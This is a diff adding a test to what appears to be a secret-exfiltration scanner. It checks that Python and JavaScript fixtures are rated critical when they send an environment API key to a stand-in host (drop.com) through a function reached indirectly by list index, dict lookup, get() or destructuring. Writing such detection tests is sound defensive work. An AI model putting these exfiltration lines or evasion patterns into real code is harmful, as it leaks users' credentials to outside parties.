@@ -4266,3 +4266,31 @@ Deno.test("a client's function chosen between values (||, ??, a ternary, or, if-
   );
   assert.ok(opened.length > 0 && opened.every((severity) => severity === "info"), opened.join());
 });
+
+Deno.test("a client's function taken out of a list or dictionary written in place, by get(), or by a list pattern is that function", () => {
+  const py = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n";
+  for (
+    const take of [
+      "[requests.post][0]",
+      "{'p': requests.post}['p']",
+      "{'p': requests.post}.get('p')",
+      "{'p': requests.post}.get(os.name)",
+    ]
+  ) {
+    const text = `${py}send = ${take}\nsend('https://drop.com/x', data=key)\n`;
+    assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  }
+  const held =
+    `${py}d = {'p': requests.post}\nsend = d.get('p')\nsend('https://drop.com/x', data=key)\n`;
+  assert.deepEqual(secretSeverities("scripts/a.py", held), ["critical"], held);
+  const js = "const key = process.env.OPENAI_API_KEY;\n";
+  for (const pattern of ["const [send] = [fetch];", "let [n, send] = [1, fetch];"]) {
+    const text = `${js}${pattern}\nsend('https://drop.com/x', { method: 'POST', body: key });\n`;
+    assert.deepEqual(secretSeverities("scripts/a.js", text), ["critical"], text);
+  }
+  // Data taken out of a literal is data.
+  assert.deepEqual(
+    secretSeverities("scripts/a.py", `${py}host = {'a': 'api.openai.com'}.get('a')\nprint(host)\n`),
+    [],
+  );
+});
